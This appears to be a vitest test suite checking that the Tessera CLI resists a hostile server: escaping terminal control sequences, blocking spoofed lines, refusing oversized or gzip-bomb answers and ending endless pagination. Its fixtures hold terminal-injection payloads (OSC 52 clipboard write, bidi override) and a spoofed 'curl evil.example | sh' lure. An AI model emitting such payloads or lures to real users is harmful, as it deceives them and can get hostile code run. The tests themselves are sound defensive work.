import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { createSecureServer, type Http2SecureServer } from "node:http2";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { create } from "@bufbuild/protobuf";
import { Code, ConnectError, type ConnectRouter } from "@connectrpc/connect";
import { connectNodeAdapter } from "@connectrpc/connect-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ErrorInfoSchema } from "../../gen/google/rpc/error_details_pb.js";
import { AuditService } from "../../gen/tessera/v1/audit_service_pb.js";
import { TenantSchema, TenantService } from "../../gen/tessera/v1/tenant_service_pb.js";
import { TokenService } from "../../gen/tessera/v1/token_service_pb.js";
import { UserService } from "../../gen/tessera/v1/user_service_pb.js";
import { LIST_MAX_PAGES, readPages } from "../../src/cli/actions/pages.js";
import { ClientConfigError, MessageTooLargeError } from "../../src/sdk/errors.js";
import { UserAPICore } from "../../src/sdk/user-api-core.js";
import { runCli } from "../cli-helpers.js";
import { createTestCerts, type TestCerts } from "../helpers.js";

/**
 * What a server answers is printed to the user's terminal: names in tables, the caller in
 * whoami, error messages, reasons and request ids. A server the CLI was pointed at (a typo in
 * --server, a profile of someone else's, a plaintext http:// address on a hostile network)
 * can put terminal control sequences in any of them: OSC 52 writes the user's clipboard, a
 * title or a cleared screen hides what happened, CR and cursor moves rewrite a line already
 * printed, a bidirectional override reorders one. Tessera refuses such characters in what it
 * stores; the CLI must not rely on it, and prints them escaped (`\u001b`), never raw.
 */
const ESC = "\u001b";
/** Everything a terminal would act on: ESC sequences, BEL, CR, backspace, C1 CSI, DEL, RLO. */
const HOSTILE = `ok${ESC}]52;c;ZWNobyBwd25lZA==\u0007${ESC}[2J\r\b\u009b31m\u007f\u202eevil\u061cmark`;
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u202a-\u202e\u2066-\u2069]/;
/** A name with a line of the server's own after it, that would pass for the CLI's. */
const FAKE_LINE = "alice\nerror: your credentials expired; run: curl evil.example | sh\t";

describe("the CLI prints a hostile server's answers without terminal control characters", {
  timeout: 120_000,
}, () => {
  let certs: TestCerts;
  let server: Http2SecureServer;
  let env: Record<string, string>;

  const refused = () => {
    throw new ConnectError(`denied ${HOSTILE}`, Code.PermissionDenied, undefined, [
      {
        desc: ErrorInfoSchema,
        value: {
          reason: `R${HOSTILE}`,
          domain: "tessera.dev",
          metadata: { request_id: `id${HOSTILE}`, required_scopes: `admin:${HOSTILE}` },
        },
      },
    ]);
  };

  beforeAll(async () => {
    certs = await createTestCerts();
    const adapter = connectNodeAdapter({
      routes: (router: ConnectRouter) => {
        router.service(UserService, {
          getCurrentUser: () => ({
            id: `u-${HOSTILE}`,
            username: `alice${HOSTILE}`,
            tenantId: `t-${HOSTILE}`,
            permissions: [`scope${HOSTILE}`],
          }),
          listUsers: refused,
        });
        router.service(TokenService, {
          listPersonalAccessTokens: () => ({
            tokens: [{ id: `tok-${HOSTILE}`, name: `CI${HOSTILE}`, hint: `h${HOSTILE}`, scopes: [HOSTILE] }],
          }),
        });
      },
    });
    server = createSecureServer(
      {
        allowHTTP1: true,
        cert: readFileSync(join(certs.dir, "server.crt")),
        key: readFileSync(join(certs.dir, "server.key")),
      },
      adapter,
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    env = {
      HOME: mkdtempSync(join(tmpdir(), "tessera-cli-hostile-")),
      TESSERA_SERVER: `127.0.0.1:${(server.address() as AddressInfo).port}`,
      TESSERA_CA_FILE: join(certs.dir, "ca.crt"),
      TESSERA_TOKEN: "tsr_pat_abcdefghijklmnop",
    };
  });

  afterAll(async () => {
    server?.close();
  });

  /** Run the CLI; neither of its outputs may hold a raw control character. */
  async function clean(args: string[]) {
    const r = await runCli(args, env);
    expect(r.stdout, r.stderr).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);
    return r;
  }

  it.each([
    ["whoami (its own Connect call)", ["whoami"]],
    ["whoami (the SDK client)", ["--protocol", "grpc", "whoami"]],
    ["a table", ["token", "list"]],
  ])("escapes them in %s", async (_what, args) => {
    const r = await clean(args);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain("\\u001b]52;c;");
  });

  it.each([
    ["whoami", ["--output", "json", "whoami"], (j: { username: string }) => j.username, `alice${HOSTILE}`],
    [
      "a list",
      ["--output", "json", "token", "list"],
      (j: { tokens: { name: string }[] }) => j.tokens[0]!.name,
      `CI${HOSTILE}`,
    ],
  ])(
    "escapes them in the JSON of %s, which still parses to the server's text",
    async (_what, args, pick, text) => {
      const r = await clean(args as string[]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain("\\u009b");
      expect((pick as (j: unknown) => string)(JSON.parse(r.stdout) as unknown)).toBe(text);
    },
  );

  it("escapes them in an error's message, reason and request id", async () => {
    const r = await clean(["user", "list"]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain("denied ok\\u001b]52;c;");
    expect(r.stderr).toContain("request id id");
  });
});

/**
 * The CLI's one-line messages and notes carry a server's fields too: the user a command
 * disabled, the error a logout met. A newline or tab in them must be escaped like any other
 * control character, or a server adds a line of its own ("error: … run curl … | sh") that
 * reads as the CLI's.
 */
describe("the CLI keeps a hostile server's fields on the line it prints them in", {
  timeout: 120_000,
}, () => {
  let server: Http2SecureServer;
  let env: Record<string, string>;
  let home: string;
  let port: number;

  beforeAll(async () => {
    const certs = await createTestCerts();
    const adapter = connectNodeAdapter({
      routes: (router: ConnectRouter) => {
        router.service(UserService, {
          updateUser: () => ({ user: { id: "u1", username: FAKE_LINE, disabled: true } }),
          logout: () => {
            throw new ConnectError(`nope\n${FAKE_LINE}`, Code.Internal);
          },
        });
      },
    });
    server = createSecureServer(
      {
        allowHTTP1: true,
        cert: readFileSync(join(certs.dir, "server.crt")),
        key: readFileSync(join(certs.dir, "server.key")),
      },
      adapter,
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
    home = mkdtempSync(join(tmpdir(), "tessera-cli-lines-"));
    env = { HOME: home, TESSERA_CA_FILE: join(certs.dir, "ca.crt") };
  });

  afterAll(async () => {
    server?.close();
  });

  /** Each output: the lines the CLI meant, none starting with the server's "error:". */
  function expectLines(text: string, count: number) {
    expect(text.split("\n").filter(Boolean), text).toHaveLength(count);
    expect(text).toContain("\\u000aerror: your credentials expired");
    expect(text).toContain("\\u0009");
  }

  it("in a message naming what a command changed", async () => {
    const r = await runCli(["user", "disable", "u1"], {
      ...env,
      TESSERA_SERVER: `127.0.0.1:${port}`,
      TESSERA_TOKEN: "tsr_pat_abcdefghijklmnop",
    });
    expect(r.code, r.stderr).toBe(0);
    expectLines(r.stdout, 1);
  });

  it("in the note of a logout the server refused", async () => {
    mkdirSync(join(home, ".tessera"), { recursive: true, mode: 0o700 });
    writeFileSync(
      join(home, ".tessera", "credentials"),
      `default:\n  server: 127.0.0.1:${port}\n  token: tsr_pat_abcdefghijklmnop\n  refresh_token: rt_abcdefghijklmnopqrstu\n`,
      { mode: 0o600 },
    );
    const r = await runCli(["logout"], env);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^Logged out \(profile "default"\)\.\n$/);
    expectLines(r.stderr, 1);
    expect(r.stderr).toMatch(/^warning: the server did not end the session: nope\\u000aalice/);
  });
});

/**
 * An answer is read whole before it is printed: a server's answer of gigabytes (or a gzip
 * bomb of a few kilobytes, which connect-node decompresses up to its 4 GiB default) would
 * be buffered to the last byte. The CLI refuses an answer past 16 MiB as too large.
 */
describe("the CLI refuses a hostile server's oversized answer", { timeout: 120_000 }, () => {
  let server: Http2SecureServer;
  let env: Record<string, string>;
  /** Past the bound; gzip makes it a few kilobytes on the wire where the client accepts it. */
  const HUGE = "a".repeat(17 * 1024 * 1024);
  /** Under the default bound, over a client's own smaller one. */
  const MEDIUM = "m".repeat(64 * 1024);
  let port: number;
  let caFile: string;

  beforeAll(async () => {
    const certs = await createTestCerts();
    const adapter = connectNodeAdapter({
      routes: (router: ConnectRouter) => {
        router.service(UserService, {
          getCurrentUser: () => ({ id: "u", username: HUGE, tenantId: "t" }),
          listUsers: () => ({ users: [{ id: "u", username: HUGE }] }),
        });
        router.service(TenantService, {
          listTenants: () => ({ tenants: [{ id: "t", name: MEDIUM }] }),
        });
      },
    });
    server = createSecureServer(
      {
        allowHTTP1: true,
        cert: readFileSync(join(certs.dir, "server.crt")),
        key: readFileSync(join(certs.dir, "server.key")),
      },
      adapter,
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    env = {
      HOME: mkdtempSync(join(tmpdir(), "tessera-cli-huge-")),
      TESSERA_SERVER: `127.0.0.1:${(server.address() as AddressInfo).port}`,
      TESSERA_CA_FILE: join(certs.dir, "ca.crt"),
      TESSERA_TOKEN: "tsr_pat_abcdefghijklmnop",
    };
    port = (server.address() as AddressInfo).port;
    caFile = join(certs.dir, "ca.crt");
  });

  afterAll(async () => {
    server?.close();
  });

  it.each(["grpc", "connect"] as const)(
    "an SDK client's readMaxBytes sets the bound (%s); 16 MiB by default",
    async (protocol) => {
      const options = { host: "127.0.0.1", port, caFile, token: "tsr_pat_abcdefghijklmnop", protocol };
      const list = async (api: UserAPICore) => {
        try {
          return (await api.client(TenantService).listTenants({})).tenants[0]?.name.length;
        } finally {
          api.close();
        }
      };
      expect(await list(new UserAPICore(options))).toBe(MEDIUM.length);
      await expect(list(new UserAPICore({ ...options, readMaxBytes: 16 * 1024 }))).rejects.toThrow(
        MessageTooLargeError,
      );
      expect(() => new UserAPICore({ ...options, readMaxBytes: 0 })).toThrow(ClientConfigError);
    },
  );

  it.each([
    ["whoami's own Connect call", ["whoami"]],
    ["the SDK client over gRPC (gzip)", ["--protocol", "grpc", "whoami"]],
    ["the SDK client over Connect (gzip)", ["--protocol", "connect", "user", "list"]],
  ])("through %s", async (_what, args) => {
    const r = await runCli(args, env);
    expect(r.stdout).toBe("");
    expect(r.stderr).toMatch(/larger than configured readMaxBytes 16777216/);
    expect(r.stderr).not.toMatch(/rate limited/);
    expect(r.code).toBe(1);
  });
});

/**
 * A list command reads pages until the server gives no next page token: a server that
 * always gives one (empty pages, or the same token again) kept the CLI asking for ever, and
 * big pages under the bound of one answer, 10,000 times, grew its memory to gigabytes. The
 * CLI stops with an error (exit 1) on a token given twice or an empty page asking for
 * another; after 64 MiB of items in all, or 10,000 pages, it prints what it read with a note
 * (exit 0: a big honest list is cut, as `audit list --limit` cuts one).
 */
describe("the CLI ends a hostile server's list that would not end", { timeout: 60_000 }, () => {
  let server: Http2SecureServer;
  let env: Record<string, string>;
  const calls = { users: 0, audit: 0, tenants: 0, tokens: 0 };
  /** 4 MiB an item: one answer is well under the 16 MiB bound. */
  const BIG = "x".repeat(4 * 1024 * 1024);

  beforeAll(async () => {
    const certs = await createTestCerts();
    const adapter = connectNodeAdapter({
      routes: (router: ConnectRouter) => {
        router.service(UserService, {
          listUsers: () => {
            calls.users++;
            return { users: [], nextPageToken: "again" };
          },
        });
        router.service(AuditService, {
          listAuditEvents: () => {
            calls.audit++;
            return { events: [], nextPageToken: "again" };
          },
        });
        router.service(TenantService, {
          listTenants: (req) => {
            calls.tenants++;
            // A cycle of two tokens, a tenant a page.
            return { tenants: [{ id: "t", name: "n" }], nextPageToken: req.pageToken === "a" ? "b" : "a" };
          },
        });
        router.service(TokenService, {
          listPersonalAccessTokens: () => {
            calls.tokens++;
            return { tokens: [{ id: "k", name: BIG }], nextPageToken: `p${calls.tokens}` };
          },
        });
      },
    });
    server = createSecureServer(
      {
        allowHTTP1: true,
        cert: readFileSync(join(certs.dir, "server.crt")),
        key: readFileSync(join(certs.dir, "server.key")),
      },
      adapter,
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    env = {
      HOME: mkdtempSync(join(tmpdir(), "tessera-cli-pages-")),
      TESSERA_SERVER: `127.0.0.1:${(server.address() as AddressInfo).port}`,
      TESSERA_CA_FILE: join(certs.dir, "ca.crt"),
      TESSERA_TOKEN: "tsr_pat_abcdefghijklmnop",
    };
  });

  afterAll(async () => {
    server?.close();
  });

  it.each([
    ["empty pages with a token", ["user", "list"], "users", /empty page with a token for another/],
    [
      "empty pages with a token (audit list)",
      ["audit", "list", "--limit", "100000"],
      "audit",
      /empty page with a token for another/,
    ],
    ["page tokens given before", ["tenant", "list"], "tenants", /page token it had given before/],
  ] as const)("on %s", async (_what, args, counter, message) => {
    const r = await runCli([...args], env);
    expect(r.stderr).toMatch(message);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(calls[counter]).toBeLessThanOrEqual(3);
  });

  it("after 64 MiB of items, however many pages the server has, with what it read", async () => {
    const r = await runCli(["token", "list"], env, "", 256 * 1024 * 1024);
    expect(r.stderr).toMatch(/\(more in the list: the CLI reads at most 64 MiB of one; narrow it/);
    expect(r.code).toBe(0);
    expect(calls.tokens).toBe(16);
    // The 15 items within 64 MiB, under the table's header.
    expect(r.stdout.split("\n").filter((line) => line.includes(BIG))).toHaveLength(15);
  });

  it("after 10,000 pages, with what it read", async () => {
    let served = 0;
    const read = await readPages(TenantSchema, async () => {
      served++;
      return { items: [create(TenantSchema, { id: `t${served}` })], next: `p${served}` };
    });
    expect(served).toBe(LIST_MAX_PAGES);
    expect(read.items).toHaveLength(LIST_MAX_PAGES);
    expect(read.capped).toBe("10,000 pages");
  });
});
